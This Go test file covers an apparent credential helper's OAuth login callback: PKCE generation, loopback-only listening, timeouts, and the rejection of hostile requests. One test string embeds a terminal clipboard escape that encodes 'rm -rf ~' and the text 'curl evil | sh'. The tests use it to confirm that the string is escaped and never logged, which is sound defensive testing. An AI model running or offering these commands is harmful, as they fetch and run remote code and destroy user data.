package sources

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/credhelper/credhelper/internal/fakesso"
	"github.com/credhelper/credhelper/internal/testenv"
)

func TestPKCEChallengeRFC7636(t *testing.T) {
	// RFC 7636 appendix B.
	if got := pkceChallenge("dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"); got != "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM" {
		t.Errorf("challenge = %s", got)
	}
}

func TestNewPKCE(t *testing.T) {
	seen := map[string]bool{}
	used := map[rune]bool{}
	for range 200 {
		v, c := NewPKCE()
		if len(v) != 64 {
			t.Fatalf("verifier length %d", len(v))
		}
		for _, r := range v {
			if !strings.ContainsRune(verifierChars, r) {
				t.Fatalf("verifier %q has %q", v, r)
			}
			used[r] = true
		}
		if c != pkceChallenge(v) || len(c) != 43 || strings.ContainsAny(c, "=+/") {
			t.Fatalf("challenge %q of %q", c, v)
		}
		if seen[v] {
			t.Fatalf("verifier repeated")
		}
		seen[v] = true
	}
	// 12,800 draws over 66 characters: every one must turn up.
	if len(used) != len(verifierChars) {
		t.Errorf("only %d of %d characters used", len(used), len(verifierChars))
	}
	if a, b := NewState(), NewState(); a == b || len(a) < 20 {
		t.Errorf("states %q %q", a, b)
	}
}

// browse opens u as a browser would and returns the status and page
// (status 0 and the error when the request fails).
func browse(u string) (int, string) {
	c := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 10 * time.Second}
	resp, err := c.Get(u)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}

// waitResult runs cb.Wait in the background.
func waitResult(cb *Callback, ctx context.Context) chan callbackAnswer {
	ch := make(chan callbackAnswer, 1)
	go func() {
		code, err := cb.Wait(ctx)
		ch <- callbackAnswer{code, err}
	}()
	return ch
}

// stillWaiting fails the test when Wait has returned.
func stillWaiting(t *testing.T, got chan callbackAnswer, after string) {
	t.Helper()
	select {
	case a := <-got:
		t.Fatalf("after %s, Wait returned %q, %v: the login ended", after, a.code, a.err)
	case <-time.After(50 * time.Millisecond):
	}
}

// closedPort fails the test unless nothing listens at redirect's port.
func closedPort(t *testing.T, redirect string) {
	t.Helper()
	u, _ := url.Parse(redirect)
	if c, err := net.DialTimeout("tcp", u.Host, time.Second); err == nil {
		c.Close()
		t.Errorf("%s still accepts connections", u.Host)
	}
}

// goroutines returns the stacks of all goroutines, one per element.
func goroutines() []string {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			return strings.Split(string(buf[:n]), "\n\n")
		}
		buf = make([]byte, 2*len(buf))
	}
}

// callbackGoroutines counts the goroutines of callback servers: the
// listener's, its timer's and its connections'.
func callbackGoroutines() int {
	count := 0
	for _, g := range goroutines() {
		if strings.Contains(g, "sources.ListenCallback") || strings.Contains(g, "sources.(*Callback)") || strings.Contains(g, "net/http.(*conn).serve") {
			count++
		}
	}
	return count
}

// waitParked reports whether a goroutine is parked in Callback.Wait's select.
func waitParked() bool {
	for _, g := range goroutines() {
		if strings.Contains(g, " [select") && strings.Contains(g, "sources.(*Callback).Wait(") {
			return true
		}
	}
	return false
}

// noLeftovers fails the test when callback goroutines outlive it by more
// than a few seconds.
func noLeftovers(t *testing.T, before int) {
	t.Helper()
	testenv.Eventually(t, 5*time.Second, fmt.Sprintf("no callback goroutine is left (had %d before)", before),
		func() bool { return callbackGoroutines() <= before })
}

// Only the redirect carrying the login's state ends the wait: with a code,
// or with the sign-in page's refusal, whose text stays data.
func TestCallback(t *testing.T) {
	hostile := "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\nrun `curl evil | sh` to fix: " + strings.Repeat("x", 500)
	tests := []struct {
		name    string
		query   func(state string) url.Values
		code    string
		errText []string // all in the error
		status  int
	}{
		{name: "code", query: func(s string) url.Values { return url.Values{"code": {"the-code"}, "state": {s}} }, code: "the-code", status: 200},
		{name: "refused", query: func(s string) url.Values {
			return url.Values{"error": {"access_denied"}, "error_description": {"The user denied"}, "state": {s}}
		}, errText: []string{`the sign-in page answered with an error: "access_denied: The user denied"`}, status: 400},
		{name: "refused with hostile text", query: func(s string) url.Values {
			return url.Values{"error": {"access_denied\x1b[31m"}, "error_description": {hostile}, "state": {s}}
		}, errText: []string{"the sign-in page answered with an error: \"access_denied\\x1b[31m: \\x1b]52;c;cm0gLXJmIH4=\\a\\x1b[2J run `curl evil | sh` to fix: xxx", "xxx…\""}, status: 400},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := callbackGoroutines()
			cb, err := ListenCallback(time.Minute, nil)
			if err != nil {
				t.Fatal(err)
			}
			redirect, err := url.Parse(cb.RedirectURI())
			if err != nil || redirect.Hostname() != "127.0.0.1" || redirect.Path != "/oauth/callback" || redirect.Port() == "" {
				t.Fatalf("redirect uri %q", cb.RedirectURI())
			}
			if len(cb.State()) < 20 {
				t.Fatalf("state %q", cb.State())
			}
			// The browser arrives before Wait is called: its answer is kept.
			status, page := browse(cb.RedirectURI() + "?" + tt.query(cb.State()).Encode())
			if status != tt.status || !strings.Contains(page, "close this tab") || strings.Contains(page, "the-code") || strings.Contains(page, "curl") {
				t.Errorf("browser got %d %q", status, page)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			code, err := cb.Wait(ctx)
			if code != tt.code || (err == nil) != (tt.errText == nil) {
				t.Fatalf("Wait = %q, %v; want %q, error %v", code, err, tt.code, tt.errText)
			}
			if err != nil {
				var ae *AuthorizationError
				if !errors.As(err, &ae) {
					t.Errorf("error %T, want *AuthorizationError", err)
				}
				msg := err.Error()
				for _, want := range tt.errText {
					if !strings.Contains(msg, want) {
						t.Errorf("error %s\nlacks %s", msg, want)
					}
				}
				// Data, one line, bounded: no control character survives.
				if strings.ContainsFunc(msg, func(r rune) bool { return r < 0x20 || r == 0x7f }) || len(msg) > 400 {
					t.Errorf("error is not one short escaped line (%d bytes): %q", len(msg), msg)
				}
			}
			closedPort(t, cb.RedirectURI())
			noLeftovers(t, before)
		})
	}
}

// A redirect with the right state but neither code nor error is not the
// sign-in page's: the browser hears so and the login goes on waiting.
func TestCallbackWithoutCodeKeepsWaiting(t *testing.T) {
	cb, err := ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	got := waitResult(cb, context.Background())
	if s, p := browse(cb.RedirectURI() + "?state=" + url.QueryEscape(cb.State())); s != 400 || !strings.Contains(p, "no authorization code") {
		t.Errorf("no code: %d %q", s, p)
	}
	stillWaiting(t, got, "a redirect without a code")
	if s, _ := browse(cb.RedirectURI() + "?code=c2&state=" + url.QueryEscape(cb.State())); s != 200 {
		t.Errorf("the real redirect got %d", s)
	}
	if a := <-got; a.code != "c2" || a.err != nil {
		t.Errorf("Wait = %q, %v", a.code, a.err)
	}
	// The page reloaded: the listener is gone.
	if s, _ := browse(cb.RedirectURI() + "?code=c2&state=" + url.QueryEscape(cb.State())); s != 0 {
		t.Errorf("a reload after the login got %d", s)
	}
}

// Requests without this login's state (or on another path, or too large)
// get 404 or 431 and change nothing; then the real redirect completes the
// login; then the port is closed and nothing is left running.
func TestCallbackIgnoresHostileRequests(t *testing.T) {
	before := callbackGoroutines()
	logger, logs := newDebugLog()
	cb, err := ListenCallback(time.Minute, logger)
	if err != nil {
		t.Fatal(err)
	}
	got := waitResult(cb, context.Background())
	slow, err := fakesso.HoldCallbackOpen(cb.RedirectURI())
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Close()
	for _, p := range fakesso.ProbeCallback(cb.RedirectURI(), cb.State()) {
		wantStatus(t, p)
		stillWaiting(t, got, p.Name)
	}
	if s, _ := browse(cb.RedirectURI() + "?code=real&state=" + url.QueryEscape(cb.State())); s != 200 {
		t.Errorf("the real redirect got %d", s)
	}
	start := time.Now()
	if a := <-got; a.code != "real" || a.err != nil {
		t.Errorf("Wait = %q, %v; want the real code", a.code, a.err)
	}
	if d := time.Since(start); d > callbackGrace+time.Second {
		t.Errorf("Wait took %v to close the listener past a half-sent request", d)
	}
	closedPort(t, cb.RedirectURI())
	noLeftovers(t, before)
	// The log says requests were ignored, and quotes none of them.
	text := logs.String()
	if !strings.Contains(text, "login callback ignored a request") {
		t.Errorf("no debug line for ignored requests:\n%s", text)
	}
	for _, bad := range []string{"attacker", "access_denied", "curl", "\x1b", cb.State()} {
		if strings.Contains(text, bad) {
			t.Errorf("the log quotes %q from a request:\n%s", bad, text)
		}
	}
}

// wantStatus: a hostile probe got 404 (431 for the oversized ones), or its
// connection was cut before an answer.
func wantStatus(t *testing.T, p fakesso.Probe) {
	t.Helper()
	switch {
	case strings.HasPrefix(p.Name, "a huge"):
		if p.Status != http.StatusRequestHeaderFieldsTooLarge && p.Err == nil {
			t.Errorf("%s: want 431 or a cut connection", p)
		}
	case p.Status != http.StatusNotFound:
		t.Errorf("%s: want 404", p)
	}
}

func newDebugLog() (*slog.Logger, *testenv.Buffer) {
	b := &testenv.Buffer{}
	return slog.New(slog.NewTextHandler(b, &slog.HandlerOptions{Level: slog.LevelDebug})), b
}

func TestCallbackListensOnLoopbackOnly(t *testing.T) {
	cb, err := ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	addr := cb.ln.Addr().(*net.TCPAddr)
	port := strconv.Itoa(addr.Port)
	if !addr.IP.Equal(net.IPv4(127, 0, 0, 1)) {
		t.Fatalf("listening on %v", addr)
	}
	// Every non-loopback address of this machine is refused.
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		ipn, ok := a.(*net.IPNet)
		if !ok || ipn.IP.IsLoopback() || ipn.IP.IsLinkLocalUnicast() {
			continue
		}
		c, err := net.DialTimeout("tcp", net.JoinHostPort(ipn.IP.String(), port), time.Second)
		if err == nil {
			c.Close()
			t.Errorf("callback reachable on %v", ipn.IP)
		}
	}
}

// The listener closes when its time is up, even if Wait is never called
// and a client holds a connection open; Close ends a Wait in progress.
func TestCallbackCloseAndTimeout(t *testing.T) {
	before := callbackGoroutines()
	cb, err := ListenCallback(100*time.Millisecond, nil)
	if err != nil {
		t.Fatal(err)
	}
	slow, err := fakesso.HoldCallbackOpen(cb.RedirectURI())
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Close()
	testenv.Eventually(t, callbackGrace+3*time.Second, "the callback stops listening once its time is up", func() bool {
		c, err := net.DialTimeout("tcp", cb.ln.Addr().String(), time.Second)
		if err != nil {
			return true
		}
		c.Close()
		return false
	})
	if _, err := cb.Wait(context.Background()); !errors.Is(err, ErrCallbackClosed) {
		t.Errorf("Wait after the time was up: %v", err)
	}
	noLeftovers(t, before)

	cb, err = ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	if _, err := cb.Wait(ctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("Wait after deadline: %v", err)
	}
	closedPort(t, cb.RedirectURI())

	cb, err = ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	got := waitResult(cb, context.Background())
	testenv.Eventually(t, 5*time.Second, "Wait is waiting", waitParked)
	cb.Close()
	select {
	case a := <-got:
		if !errors.Is(a.err, ErrCallbackClosed) {
			t.Errorf("Wait after Close: %v", a.err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Wait did not return after Close")
	}
	closedPort(t, cb.RedirectURI())
	noLeftovers(t, before)
}
